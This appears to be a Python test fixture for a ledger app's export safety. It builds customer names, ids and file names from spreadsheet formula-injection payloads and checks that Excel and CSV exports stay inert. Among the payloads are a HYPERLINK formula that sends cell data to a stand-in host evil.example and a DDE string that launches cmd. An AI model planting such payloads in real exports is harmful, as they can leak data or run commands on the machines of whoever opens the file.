"""A small ledger whose customers, ids, documents and activities are hostile (formulas, markup, Markdown, control
characters), and how a test reads an export back to find code in it.

Every value is a plausible export of a careless or malicious sender; the exports and the app
must write and show each one as the text it is. The dates put everything open and overdue at
AS_OF, the last day of the data.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
from ledgers import ledger_from_rows

from kpi.text.untrusted import reads_as_formula

AS_OF = date(2026, 3, 31)
IMAGE_URL = "http://127.0.0.1:1/x.png"
LINK_URL = "http://127.0.0.1:1/"
MARKDOWN_IMAGE = f"![x]({IMAGE_URL})"
MARKDOWN_LINK = f"[pay]({LINK_URL})"
FORMULA_LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
FORMULA_DDE = "=cmd|' /C calc'!A0"
MARKUP = f'<b>gras</b> <a href="{LINK_URL}">lien</a> <img src="{IMAGE_URL}">'

# What a workspace can hold whatever the importers strip: no control characters.
PRINTABLE_NAMES = (
    FORMULA_LINK,
    FORMULA_DDE,
    "+33 1 23 45 67 89",
    "-Garage Moins",
    "@SUM(1+1)",
    MARKUP,
    MARKDOWN_IMAGE,
    MARKDOWN_LINK,
    "http://127.0.0.1:1/bare",
    "Dupont & Fils :red[rouge] $x$ _i_ **g**",
)
CONTROL_NAMES = ("\tTabulation", "\rRetour", "\x1b[2J\x1b[31mANSI rouge\x1b[0m")
HOSTILE_NAMES = PRINTABLE_NAMES + CONTROL_NAMES
# Ids start with every formula trigger too.
ID_PREFIXES = ("=", "+", "-", "@")


def customer_id(index: int) -> str:
    return f"{ID_PREFIXES[index % len(ID_PREFIXES)]}C{index}"


def _rows(names) -> tuple[list[dict], list[dict]]:
    documents, settlements = [], []
    for index, name in enumerate(names):
        cid = customer_id(index)
        activity = names[(index + 1) % len(names)]
        issued = date(2025, 11, 1) + timedelta(days=7 * index)
        documents.append(
            {
                "document_id": f"{ID_PREFIXES[index % 4]}F{index}",
                "customer_id": cid,
                "customer_name": name,
                "activity": activity,
                "issue_date": issued,
                "due_date": issued + timedelta(days=30),
                "amount": 1000 + 100 * index,
            }
        )
        # A credit note left unapplied, not yet due: a negative amount and negative days must stay numbers.
        documents.append(
            {
                "document_id": f"{ID_PREFIXES[(index + 1) % 4]}A{index}",
                "customer_id": cid,
                "customer_name": name,
                "activity": activity,
                "issue_date": date(2026, 3, 2),
                "due_date": date(2026, 4, 15),
                "amount": -300,
            }
        )
        settlements.append(
            {
                "settlement_id": f"{ID_PREFIXES[(index + 2) % 4]}P{index}",
                "document_id": f"{ID_PREFIXES[index % 4]}F{index}",
                "customer_id": cid,
                "date": date(2026, 3, 10),
                "amount": 100,
                "kind": "cash",
            }
        )
    return documents, settlements


def hostile_ledger(names=HOSTILE_NAMES):
    """The canonical ledger, control characters included."""
    return ledger_from_rows(*_rows(names))


DOCUMENTS_FILE = "=1+2;HYPERLINK.csv"
SETTLEMENTS_FILE = "@règlements.csv"


def write_hostile_files(directory: Path, names=PRINTABLE_NAMES) -> list[Path]:
    """The canonical pair as CSV files with hostile file names, for a workspace import."""
    documents, settlements = _rows(names)
    directory.mkdir(parents=True, exist_ok=True)
    paths = [directory / DOCUMENTS_FILE, directory / SETTLEMENTS_FILE]
    for path, rows, columns in (
        (
            paths[0],
            documents,
            ("document_id", "customer_id", "customer_name", "activity", "issue_date", "due_date", "amount"),
        ),
        (paths[1], settlements, ("settlement_id", "document_id", "customer_id", "date", "amount", "kind")),
    ):
        with path.open("w", newline="", encoding="utf-8") as handle:
            writer = csv.writer(handle)
            writer.writerow(columns)
            for row in rows:
                writer.writerow([row[c].isoformat() if isinstance(row[c], date) else row[c] for c in columns])
    return paths


# -- what an export holds, read back ---------------------------------------------------------------

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
APP_SUMS = re.compile(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)")
NO_FORMULA = re.compile("(?!)")


def excel_text(value: str) -> str:
    """A string as Excel reads it: control characters are stored escaped as _xHHHH_ (openpyxl keeps the escape)."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found.group(1), 16)), value)


def assert_no_formula_from_data(data: bytes, allowed=APP_SUMS) -> list:
    """Every cell read back: formulas only the app's own SUM totals, every text that reads as a formula quoted."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert allowed.fullmatch(str(cell.value)), (sheet.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, str):
                    texts.append(excel_text(cell.value))
                    if reads_as_formula(texts[-1]):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
    return texts


def csv_rows(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def assert_csv_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for field in row:
            if field.startswith(TRIGGERS):
                # Only numbers may start with "-": an amount or a number of days, never text.
                assert NUMBER.fullmatch(field), field


class TagsAndText(HTMLParser):
    """The tags of an HTML page, and its text."""

    def __init__(self):
        super().__init__()
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)
